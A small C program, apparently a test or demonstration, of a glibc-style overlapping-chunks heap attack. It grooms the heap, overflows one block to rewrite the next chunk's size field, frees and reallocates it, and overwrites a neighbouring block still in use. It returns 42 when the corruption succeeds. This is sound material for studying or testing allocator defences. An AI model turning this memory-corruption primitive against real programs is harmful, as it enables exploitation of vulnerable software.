/*
 * metadata: an overflow upwards writes the whole size of the next chunk. It is freed, and comes back together with
 * the block behind it, which is still in use.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

int main(void) {
  settle(136);
  Word *first = allocate(136), *second = allocate(136), *victim = allocate(136);
  allocate(136);
  victim[0] = 7;
  first[17] = 2 * 144 | 1; /* the size of the second chunk: that of two */
  release((void *)second);
  Word *taken = allocate(2 * 144 - 8);
  if (taken) taken[18] = 42;
  return victim[0] == 42 ? GOAL_REACHED : 0;
}
